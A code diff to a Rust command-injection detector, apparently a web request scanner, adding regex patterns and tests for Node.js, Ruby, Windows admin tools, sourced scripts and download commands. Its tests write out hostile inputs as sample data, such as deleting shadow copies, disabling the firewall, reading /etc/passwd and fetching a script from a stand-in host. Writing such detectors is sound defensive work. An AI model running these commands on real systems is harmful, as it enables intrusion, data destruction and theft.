@@ -10,8 +10,10 @@
 //! against the spacing of prose (`x ;top`) counts on its own. Commands run through a wrapper
 //! (`nohup`, `strace`, `sudo`) or from a variable assigned earlier (`c=cat; $c /etc/hosts`),
 //! wildcard paths (`/???/c?t`), redirections into system paths and `!cmd` shell escapes count too. Batch `FOR ... IN (...) DO` / `IF ... EQU`
-//! blocks, reverse shells, Shellshock (a value that *starts* with `() {`), and Node.js / Perl
-//! code that reaches a shell (`require('child_process')`, `process.mainModule`, node-serialize
+//! blocks, reverse shells, Shellshock (a value that *starts* with `() {`), Windows administration
+//! tools with any argument (`&wevtutil cl system`), scripts sourced by `.` (`; . /tmp/x.sh`), and
+//! Node.js / Ruby / Perl code that reaches a shell or the file system (`require('child_process')`,
+//! `process.mainModule`, `fs.unlinkSync(`, `while(true)`, `Process.spawn(`, node-serialize
 //! markers, also base64-wrapped) are matched directly. Plain English (`; top of the morning`, `Tom & Jerry`) has separators and even
 //! command-like words, but not in that shape.
 
@@ -31,11 +33,23 @@ pub(crate) struct Cmdi {
 }
 
 /// Plain JavaScript syntax (`function(){`, `module.exports =`, `console.log(`, `process.env`,
-/// `new Function(`, `require('fs')`, `process.exit(`, `vm.runInNewContext(`, `this.constructor`): server-side code injection in a URL, header or form, but what a code snippet
+/// `new Function(`, `require('fs')`, `process.exit(`, `vm.runInNewContext(`, `this.constructor`),
+/// Node's file system and process calls (`fs.readFileSync(`, `createReadStream(`,
+/// `spawn('sh')`) and the endless loops that stall its one thread (`while(true)`,
+/// `while(!0)`): server-side code injection in a URL, header or form, but what a code snippet
 /// in a JSON text field (a gist, a support ticket) is made of, so only Medium there. What reaches
 /// the runtime or a shell (`child_process`, `process.mainModule`, `constructor.constructor`) is
 /// High anywhere.
-const JS_CODE: &str = r"\bnew\s+function\s*\(|module\s*\.\s*exports\s*=|\bconsole\s*(?:\.\s*[a-z]+|\[\s*['`][a-z]+['`]\s*\])\s*(?:\.\s*call\s*)?\(|\bfunction\s*\(\s*\)\s*\{|process\s*\.\s*env\b|\brequire\s*\(\s*['`\x22]|\bprocess\s*\.\s*(?:exit|kill|abort|dlopen|chdir|setuid|setgid|umask|cwd)\s*\(|\bprocess\s*\.\s*(?:argv|execargv|execpath)\b|\bthis\s*\.\s*constructor\b|\bvm\s*\.\s*run(?:in(?:new|this)?context)?\s*\(|\bglobal(?:this)?\s*(?:\.\s*process\b|\[\s*['`\x22]process)";
+const JS_CODE: &str = r"\bnew\s+function\s*\(|module\s*\.\s*exports\s*=|\bconsole\s*(?:\.\s*[a-z]+|\[\s*['`][a-z]+['`]\s*\])\s*(?:\.\s*call\s*)?\(|\bfunction\s*\(\s*\)\s*\{|process\s*\.\s*env\b|\brequire\s*\(\s*['`\x22]|\bprocess\s*\.\s*(?:exit|kill|abort|dlopen|chdir|setuid|setgid|umask|cwd)\s*\(|\bprocess\s*\.\s*(?:argv|execargv|execpath)\b|\bthis\s*\.\s*constructor\b|\bvm\s*\.\s*run(?:in(?:new|this)?context)?\s*\(|\bglobal(?:this)?\s*(?:\.\s*process\b|\[\s*['`\x22]process)|\b(?:(?:read|write|append|copy)file|unlink|symlink|link|l?ch(?:mod|own)|rm|rmdir|mkdir|mkdtemp|rename|f?truncate|[lf]?stat|open|opendir|readlink|readdir|realpath|exists|access|[lf]?utimes|f?datasync|fsync|close|cp|readv|writev)sync\s*\(|\bcreate(?:read|write)stream\s*\(|\b(?:un)?watchfile\s*\(|\bfs\s*\.\s*(?:promises\s*\.\s*)?[a-z]+\s*\(|\b(?:child_process|cp)\s*\.\s*(?:spawn|fork|exec|execfile)\s*\(|\b(?:spawn|fork)\s*\(\s*['`\x22]|\bconstructor\s*\[|\bbinding\s*\[|\bwhile\s*\(\s*(?:!+\s*(?:false|0|null|undefined|nan|\x22\x22|''|``)|(?:!!)*\s*(?:true|[1-9]\d*|infinity|\[\]|\{\}|\x22[^\x22]+\x22|'[^']+'|this|window))\s*\)";
+
+/// Ruby that runs a command or code (`Process.spawn(`, `Kernel.exec`, `IO.popen(`,
+/// `Open3.capture2(`, `%x(id)`, `instance_eval(`): server-side code injection in a URL, header or
+/// form, a snippet in a JSON text field.
+const RUBY_CODE: &str = r"\bprocess\s*\.\s*(?:spawn|fork|exec|daemon)\b|\bkernel\s*\.\s*(?:exec|system|spawn|fork|open|eval|syscall|`)|\bio\s*\.\s*popen\s*\(|\bopen3\s*\.\s*(?:popen[23e]?|capture[23e]?|pipeline[a-z_]*)\b|\b(?:instance|class|module)_eval\s*\(|(?:^|[^a-z0-9%])%x\s*[({\[|!]";
+
+/// Windows administration tools whose names are no word of prose: after a separator any
+/// argument makes them a command line. A regex.
+const WINDOWS_ADMIN: &str = "netsh|wevtutil|vssadmin|icacls|cacls|bcdedit|bcdboot|schtasks|wmic|certutil|bitsadmin|klist|nltest|dsquery|fsutil|diskpart|takeown|cmdkey|attrib|tasklist|taskkill|systeminfo|regsvr32|rundll32|mshta|wbadmin|esentutl|ntdsutil|qprocess|quser|qwinsta|winrm|winrs|dnscmd|auditpol|gpresult|nbtstat|driverquery|sc\\.exe";
 
 /// Commands that are an attack after a separator when an argument shape follows, together with
 /// [`TOOLS`] (see [`strong_commands`]). The Windows administration tools among them (`icacls`,
@@ -237,8 +251,13 @@ fn hidden_command(b: &[u8]) -> Option<usize> {
 /// Gate for a shell separator: a known command follows (past spaces, `{`, `(` and quotes).
 fn command_follows(b: &[u8], _s: usize, e: usize) -> bool {
     let mut i = e;
+    let mut sourced = false;
     while i < b.len() && (b[i] <= b' ' || matches!(b[i], b'{' | b'(' | b'!' | b'@') || (b[i] == b'.' && b.get(i + 1) == Some(&b' '))) {
+        sourced |= b[i] == b'.';
         i += 1;
+    }
+    if sourced && matches!(b.get(i), Some(b'/' | b'.' | b'~' | b'$')) {
+        return true; // a script sourced by `.` (`; . /tmp/x.sh`)
     }
     if b.get(i) == Some(&b'$') && b.get(i + 1).is_some_and(|c| c.is_ascii_alphabetic() || *c == b'{') {
         return true; // a variable run as the command (`&& $c $a`)
@@ -269,7 +288,9 @@ fn is_imap_tag(w: &[u8]) -> bool {
 }
 
 /// The markers of Node.js deserialization and child-process payloads (`_$$ND_FUNC$$_`,
-/// `__js_function`, `child_process`, `process.mainModule`, `eval(String.fromCharCode`) as they read inside base64 at each of the three byte
+/// `__js_function`, `child_process`, `process.mainModule`, `eval(String.fromCharCode`,
+/// `process.binding`, `this.constructor`, `new Function(`, `String.fromCharCode`, `module.exports`,
+/// `global.process`) as they read inside base64 at each of the three byte
 /// alignments, lower-cased like the matching form: only the characters that depend on the marker
 /// alone are kept. Payloads are smuggled this way in cookies and tokens the application decodes.
 const BASE64_MARKERS: &[&str] = &[
@@ -278,6 +299,12 @@ const BASE64_MARKERS: &[&str] = &[
     "y2hpbgrfchjvy2vzc", "noawxkx3byb2nlc3", "jaglszf9wcm9jzxnz",
     "chjvy2vzcy5tywlutw9kdwxl", "byb2nlc3mubwfpbk1vzhvsz", "wcm9jzxnzlm1haw5nb2r1bg",
     "zxzhbchtdhjpbmcuznjvbunoyxjdb2rl", "v2ywwou3ryaw5nlmzyb21dagfyq29kz", "ldmfskfn0cmluzy5mcm9tq2hhcknvzg",
+    "chjvy2vzcy5iaw5kaw5n", "byb2nlc3muymluzgluz", "wcm9jzxnzlmjpbmrpbm",
+    "dghpcy5jb25zdhj1y3rvc", "roaxmuy29uc3rydwn0b3", "0aglzlmnvbnn0cnvjdg9y",
+    "bmv3iez1bmn0aw9uk", "5ldybgdw5jdglvbi", "uzxcgrnvuy3rpb24o",
+    "u3ryaw5nlmzyb21dagfyq29kz", "n0cmluzy5mcm9tq2hhcknvzg", "tdhjpbmcuznjvbunoyxjdb2rl",
+    "bw9kdwxllmv4cg9ydh", "1vzhvszs5lehbvcnrz", "tb2r1bguuzxhwb3j0c",
+    "z2xvymfslnbyb2nlc3", "dsb2jhbc5wcm9jzxnz", "nbg9iywwuchjvy2vzc",
 ];
 
 /// Commands that run the command after them (`nohup ifconfig`, `sudo -u x id`).
@@ -392,6 +419,11 @@ fn substring_expansion(b: &[u8], _s: usize, e: usize) -> bool {
 }
 
 /// Gate for Node.js `process`: a member that reaches the runtime follows (also past spaces).
+/// Gate for a function name: its call's `(` follows (past spaces).
+fn call_follows(b: &[u8], s: usize, e: usize) -> bool {
+    starts_word(b, s, e) && b.get(skip_space(b, e)) == Some(&b'(')
+}
+
 fn process_member(b: &[u8], _s: usize, e: usize) -> bool {
     matches!(b.get(skip_space(b, e)), Some(b'.' | b'['))
 }
@@ -445,6 +477,9 @@ impl Cmdi {
         // PowerShell cmdlets that run, fetch or reach the system (`Invoke-Expression`,
         // `Get-ChildItem`, `New-Object Net.WebClient`), and `iex`/`iwr` in their code shapes.
         let powershell = format!(r"(?:^|{sep}|`)\s*(?:{POWERSHELL_CMDLETS})\b|\|\s*iex\b|\biex\s*\(\s*(?:new-object|iwr|irm|invoke-|\(|\[|\$)|\b(?:iwr|irm)\s+(?:-uri\s+)?https?://");
+        // `&wevtutil cl system`, `|netsh firewall set opmode disable`: Windows administration
+        // tools, no word of any language, take plain words as arguments.
+        let windows_admin = format!(r"{sep}\s*(?:{WINDOWS_ADMIN})(?:\.exe)?\s+[a-z0-9/+-]");
         let sqlite = format!(r"(?:^|[;\n])\s*\.(?:{})\b", SQLITE_DOT_COMMANDS.join("|"));
         let table = [
             (base64_js.as_str(), Critical, 0.9, "base64-encoded server-side JavaScript"),
@@ -456,9 +491,12 @@ impl Cmdi {
             (r"\b(?:curl|wget|fetch)\b[^|;]*\|\s*(?:ba|z|k)?sh\b", Critical, 0.95, "download piped to a shell"),
             (r"(?:require\s*\(\s*['`]child_process['`]\s*\)|child_process|process\s*\.\s*(?:mainmodule|binding|\[)|process\[|process\s*\[\s*['`\x22]|_\$\$nd_func\$\$_|\bconstructor\s*(?:\.\s*|\[\s*['`\x22])constructor\b|\brequire\s*\.\s*main\b|\brequire\s*\[|__js_function|\beval\s*\(\s*string\s*\.\s*fromcharcode|\beval\s*\(\s*(?:atob|unescape|decodeuricomponent|buffer\s*\.\s*from|require|process)\b|\bfunction\s*\(\s*['`\x22][^'`\x22]*['`\x22]\s*\)\s*\(|\breflect\s*\.\s*(?:construct|apply)\s*\(\s*(?:function|eval)\b|\b(?:exec|execfile|spawn)sync\s*\()", High, 0.85, "server-side JavaScript code injection"),
             (JS_CODE, Medium, 0.6, "JavaScript code"),
+            (RUBY_CODE, Medium, 0.6, "Ruby code"),
+            (windows_admin.as_str(), High, 0.85, "Windows administration tool after a shell separator"),
+            (r"(?:[;|\n]|&&|&|\$\(|`)\s*\.\s+(?:\.{0,2}/|~/|\$)\S", High, 0.8, "script sourced after a shell separator"),
             (r"<!--\s*#\s*(?:exec|include|echo|config|printenv)\b", Critical, 0.9, "server-side include"),
-            (r#"\bfor\s+(?:/[a-z]\s+)*(?:(?:["'][^"']*["']|[a-z]:\\\S*)\s+)?%%?\S+\s+in\s*\(.*\)\s*do\b"#, High, 0.85, "Windows batch FOR loop"),
-            (r#"\bif\s*(?:/i\s+)?(?:not\s+)?(?:(?:exist|defined)\s+\S|errorlevel\s+\d|cmdextversion\s+\d|\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S|["'\[({%!][^=\s]*\s*==|/i\s+\S+\s*={2,3}\s*\S+\s+\S|(?:not\s+)?\S+\s*={2,3}\s*\S+\s+(?:echo|goto|set|call|cmd|exit|copy|del|type|dir|start|md|cd|rd|@|\())"#, High, 0.8, "Windows batch IF"),
+            (r#"\bfor\s*(?:/[a-z]+\s*)*(?:(?:"[^"]*"|'[^']*'|[^\s%"']+|%[a-z_]+%)\s+)?%%?\S+\s+in\s*\(.*\)\s*do\b"#, High, 0.85, "Windows batch FOR loop"),
+            (r#"\bif\s*(?:/i\s+)?(?:not\s+)?(?:(?:exist|defined)\s+\S|(?:exist|defined|errorlevel|cmdextversion)\s*$|errorlevel\s+\d|cmdextversion\s+\d|\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S|["'\[({%!][^=\s]*\s*==|/i\s+\S+\s*={2,3}\s*\S+\s+\S|(?:not\s+)?\S+\s*={2,3}\s*\S+\s+(?:echo|goto|set|call|cmd|exit|copy|del|type|dir|start|md|cd|rd|@|\())"#, High, 0.8, "Windows batch IF"),
             (strong_after_sep.as_str(), Critical, 0.9, "command after a shell separator"),
             (strong_on_a_line.as_str(), Medium, 0.6, "command word opening a line of text"),
             (any_after_sep.as_str(), Critical, 0.9, "dangerous command after a shell separator"),
@@ -495,6 +533,9 @@ impl Cmdi {
                 Family::Cmdi,
                 &[
                     (JS_CODE, High, 0.85, "server-side JavaScript code injection"),
+                    (RUBY_CODE, High, 0.85, "server-side Ruby code injection"),
+                    // `wget http://x/a.sh`: a value that is a download command line.
+                    (r"^\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:wget|curl|lwp-download|aria2c|tftp)(?:\.exe)?\s+(?:-\S+\s+)*(?:https?|ftp|tftp)://", High, 0.75, "download command line"),
                     (strong_on_a_line.as_str(), Critical, 0.9, "command after a shell separator"),
                     // Ansible, Chef and CrowdSec consoles run anything on every managed host;
                     // their hyphenated names are no word of prose.
@@ -618,6 +659,21 @@ impl Check for Cmdi {
             lit("zxzhbchtdh"),
             lit("v2ywwou3ry"),
             lit("ldmfskfn0c"),
+            lit("dghpcy5jb2"),
+            lit("roaxmuy29u"),
+            lit("0aglzlmnvb"),
+            lit("bmv3iez1bm"),
+            lit("5ldybgdw5j"),
+            lit("uzxcgrnvuy"),
+            lit("u3ryaw5nlm"),
+            lit("n0cmluzy5m"),
+            lit("tdhjpbmcuz"),
+            lit("bw9kdwxllm"),
+            lit("1vzhvszs5l"),
+            lit("tb2r1bguuz"),
+            lit("z2xvymfsln"),
+            lit("dsb2jhbc5w"),
+            lit("nbg9iywwuc"),
             lit("constructor"),
             lit("runinnewcontext"),
             lit("reflect."),
@@ -639,6 +695,23 @@ impl Check for Cmdi {
             gated("iwr", starts_word),
             gated("irm", starts_word),
             lit("execsync"),
+            lit("sync("),
+            lit("sync ("),
+            lit("createreadstream"),
+            lit("createwritestream"),
+            lit("watchfile"),
+            gated("fs", process_member),
+            gated("spawn", call_follows),
+            gated("fork", call_follows),
+            gated("while", call_follows),
+            lit("binding["),
+            lit("binding ["),
+            lit("kernel."),
+            lit("kernel ."),
+            lit("popen"),
+            lit("open3"),
+            lit("_eval"),
+            lit("%x"),
             lit("execfilesync"),
             lit("spawnsync"),
             lit("runinthiscontext"),
@@ -811,9 +884,70 @@ mod tests {
     }
 
     #[test]
+    fn node_file_and_process_calls_stalls_and_ruby_outside_json_text() {
+        use crate::fields::{Part, ValueType};
+        let at = |part, v: &str| scan_at(part, ValueType::Text, "q", v).iter().any(|f| f.kind == "attack.cmdi" && f.weight() >= 0.5);
+        for v in [
+            "fs.unlinkSync('/x')",
+            "require('fs').writeFileSync('/tmp/x','y')",
+            "fs.createReadStream('/etc/passwd')",
+            "fs.promises.readFile('/etc/passwd')",
+            "cp.fork('x.js')",
+            "spawn('sh',['-c','id'])",
+            "this.constructor['_load']('fs')",
+            "while(true){}",
+            "while ( !0 )",
+            "while(!!1)",
+            "Process.spawn(\"id\")",
+            "Kernel.exec('id')",
+            "IO.popen('id').read",
+            "Open3.capture2('id')",
+            "instance_eval('x')",
+            "%x(id)",
+        ] {
+            assert!(at(Part::Query, v), "{v}");
+            assert!(at(Part::Body, v), "{v} in a form field");
+        }
+        for v in ["while (true love) lasts", "while(we wait)", "spawn point (map 3)", "fork (git) the repo", "the binding agreement", "process spawning", "kernel 6.1 (lts)", "50%x(2)", "IO popen docs", "fsync (disabled)"] {
+            assert!(!at(Part::Query, v), "{v}");
+        }
+        // In a JSON text field they are a snippet, reported below the flag line.
+        for v in ["const data = fs.readFileSync('./config.json')", "while(true) { poll(); }", "Process.spawn('ls')"] {
+            assert!(!any_flag_in_json(v), "{v}");
+        }
+    }
+
+    #[test]
+    fn windows_tools_sourced_scripts_downloads_and_batch_loops() {
+        use crate::fields::{Part, ValueType};
+        let at = |part, v: &str| scan_at(part, ValueType::Text, "q", v).iter().any(|f| f.kind == "attack.cmdi" && f.weight() >= 0.5);
+        for v in [
+            "a|netsh firewall set opmode disable",
+            "&wevtutil cl system",
+            "x & vssadmin delete shadows /all",
+            "&attrib +h x",
+            ";. /tmp/x.sh",
+            "|. ./evil",
+            "&& . ~/payload",
+            "for /r %userprofile% %x in (*.doc) do type %x",
+            "for /r .\\ %x in (*) do del %x",
+            "FOR/L %i IN (1,1,9) DO ping x",
+            "IF EXIST",
+            "if not cmdextversion",
+        ] {
+            assert!(flags("attack.cmdi", v), "{v}");
+        }
+        assert!(at(Part::Query, "wget http://x.example/a.sh") && at(Part::Body, "curl -s -o /tmp/a https://x.example/a"));
+        assert!(!any_flag_in_json("wget https://example.com/release.zip"));
+        for v in ["R&D attrib (v2)", "wow. /s", "see . /docs", "for people in (London) do visit", "if exists, skip", "wget is a tool"] {
+            assert!(!flags("attack.cmdi", v), "{v}");
+        }
+    }
+
+    #[test]
     fn base64_markers_are_the_markers_encoded_at_each_alignment() {
         let mut expected = Vec::new();
-        for marker in [&b"_$$ND_FUNC$$_"[..], b"__js_function", b"child_process", b"process.mainModule", b"eval(String.fromCharCode"] {
+        for marker in [&b"_$$ND_FUNC$$_"[..], b"__js_function", b"child_process", b"process.mainModule", b"eval(String.fromCharCode", b"process.binding", b"this.constructor", b"new Function(", b"String.fromCharCode", b"module.exports", b"global.process"] {
             for k in 0..3usize {
                 let mut bytes = vec![0u8; k];
                 bytes.extend_from_slice(marker);
